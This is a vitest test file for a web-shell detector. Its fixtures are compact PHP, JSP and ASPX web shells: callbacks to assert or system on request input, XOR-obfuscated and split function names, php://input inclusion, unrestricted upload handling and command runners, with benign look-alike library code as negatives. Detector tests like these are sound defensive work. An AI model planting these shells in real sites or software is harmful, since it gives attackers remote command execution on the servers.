/**
 * The web-shell judge on the shapes shells take (written here after the families seen in a
 * public collection; none of its files is in this repository) and on library code that
 * looks alike.
 */
import { describe, expect, it } from 'vitest';
import { judgeWebShell, longestRun, withoutComments } from '../../src/findings/web-shell.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const file = (path: string, currentText: string) =>
  addedFile(path, currentText, { current: fileMeta({ sizeBytes: currentText.length }) });
const judge = (path: string, text: string) => judgeWebShell(file(path, text), false);

describe('judgeWebShell', () => {
  it.each([
    ['a callback named assert', '<?php call_user_func("assert", $_POST["x"]); ?>'],
    [
      'a callback held in request input',
      '<?php $e = $_REQUEST["e"]; array_reduce(array(1), $e, $_POST["x"]); ?>',
    ],
    [
      'a name finished from a cookie',
      '<?php $ch = $_COOKIE["d"]; array_intersect_ukey(array($_REQUEST["p"] => 1), array(1), $ch."ert"); ?>',
    ],
    ['a function chosen at run time on input', '<?php $a = trim(" assert "); $a($_POST["x"]); ?>'],
    ['a function named by input', '<?php $f = $_GET["f"]; $a = $_GET["a"]; $f($a); ?>'],
    [
      'an expression called on input',
      '<?php $q = $_GET[1]; file_get_contents("php".$q)($_GET[2]); ?>',
    ],
    ['the request body included', '<?php include("php://input"); ?>'],
    [
      'a file written where the visitor says',
      '<?php file_put_contents($_COOKIE["p"], base64_decode($_POST["d"])); ?>',
    ],
    ['a decoded command', '<?php system(base64_decode("aWQ=")); ?>'],
    ['XORed names', '<?=$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);'],
    ['a name in pieces', '<?php $x = "as"."se"."rt"; $x($_POST["k"]); ?>'],
    [
      'a command runner',
      '<?php if ($_POST["m"] == 1) system($c); elseif ($_POST["m"] == 2) passthru($c); else echo shell_exec($c); ?>',
    ],
    [
      'a console whose command passes through variables',
      '<?php $c = $_POST["cmd"]; $line = "cd /tmp; " . $c; $h = popen($line, "r"); echo fread($h, 4096); ?>',
    ],
    [
      'the request walked through names held in strings',
      '<?php foreach (array("_GET", "_POST") as $r) foreach ($$r as $k => $v) $$k = $v; $fn($arg); ?>',
    ],
    ['the request named in braces', '<?php $q = ${"_REQUEST"}; $q["f"]($q["a"]); ?>'],
    [
      'a callback named with escaped bytes',
      '<?php array_map("ass\\x65rt", (array)$_REQUEST["k"]); ?>',
    ],
    [
      'a callback name joined from an array of pieces',
      '<?php $n = join(array_diff(["sy","x","st","em"], ["x"])); array_map($n, (array)$_GET["c"]); ?>',
    ],
    ['a function held in underscores', '<?php $_ = $_GET["a"]; $__ = $_GET["b"]; $_($__); ?>'],
    [
      'an upload kept under the name it was sent with',
      '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "./" . $_FILES["f"]["name"]); ?>',
    ],
    [
      'decoded input kept in the session for a second stage',
      '<?php session_start(); $_SESSION["s"] = base64_decode($_COOKIE["t"]); ?>',
    ],
    [
      'an XPath expression that runs commands',
      "<?php $x->registerPhpFunctions(); $x->query(\"//a[php:functionString('system', '$c')]\"); ?>",
    ],
  ])('calls %s a web shell, critical', (_, text) => {
    expect(judge('/opt/x.php', text)).toMatchObject({ severity: 'critical', attack: 'T1505.003' });
  });

  it('judges JSP and ASPX pages by what a page should never do', () => {
    expect(
      judge(
        '/opt/t.jsp',
        '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>',
      ),
    )?.toMatchObject({ severity: 'critical' });
    expect(
      judge(
        '/opt/u.jsp',
        '<% String n = request.getParameter("n"); FileOutputStream o = new FileOutputStream(application.getRealPath("/") + n); %>',
      ),
    )?.toMatchObject({ severity: 'critical' });
    expect(
      judge(
        '/opt/c.aspx',
        '<%@ Page Language="C#" %><% Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.Start(); %>',
      ),
    )?.toMatchObject({ severity: 'critical' });
  });

  it('leaves library code that only looks alike at medium or below', () => {
    for (const text of [
      '<?php $cb = $this->callbacks[$name]; return $cb($value); ?>',
      '<?php $sanitized = array_map("intval", $_GET["ids"]); ?>',
      '<?php $out = preg_replace("/\\\\s+/", " ", $_POST["q"]); ?>',
      '<?php $key = hash("sha256", $secret) ^ str_repeat(chr(0), 32); ?>',
      '<?php // run `$cmd` with exec() from $_GET\n echo "ok"; ?>',
      // A request value checked, then a constant command; an upload kept under a made name.
      '<?php $mode = $_POST["mode"]; if ($mode === "gc") exec("/usr/bin/php cleanup.php"); ?>',
      '<?php move_uploaded_file($_FILES["f"]["tmp_name"], $dir . "/" . uniqid() . ".jpg"); ?>',
      '<?php usort($rows, $cmp); $order = $_GET["order"]; ?>',
      '<?php preg_replace_callback("/x/", "lower", $_SERVER["REQUEST_URI"]); ?>',
      '<?php $_SESSION["user"] = $_POST["user"]; ?>',
      '<?php $blob = "QUJD//RU/*ZH"; echo strlen($blob); ?>',
    ]) {
      const hit = judge('/var/www/html/lib.php', text);
      expect(hit?.severity ?? 'none', text).not.toMatch(/high|critical/);
    }
  });

  it('ignores what comments say, not URLs', () => {
    expect(withoutComments('a(); // eval($_GET)\n/* system($x) */ b("http://x/y");')).toBe(
      'a(); \n  b("http://x/y");',
    );
  });

  it('measures encoded blobs in one pass, which a repeated regex would not', () => {
    const isA = (c: number) => c === 65;
    expect(longestRun('AAxAAAAyA', isA)).toBe(4);
    expect(longestRun('', isA)).toBe(0);
    // Runs just short of a threshold, where `[…]{4000,}` rescans each from every start.
    const shaped = `<?php ${('A'.repeat(3999) + '!').repeat(16)}`;
    expect(judge('/opt/x.php', shaped)).toBeUndefined();
    expect(judge('/opt/y.php', `<?php $x = "${'QUFB'.repeat(6000)}";`)?.severity).toBe('high');
  });
});
